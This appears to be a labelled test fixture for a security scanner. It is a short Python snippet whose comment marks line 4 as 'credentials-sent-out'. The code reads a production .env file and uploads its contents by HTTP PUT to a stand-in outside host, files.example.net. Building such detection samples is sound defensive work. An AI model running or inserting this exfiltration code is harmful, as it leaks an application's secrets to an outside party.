# expect: 4 credentials-sent-out
import requests
with open('/srv/app/.env.production', 'rb') as settings:
    requests.put('https://files.example.net/up', data=settings.read())
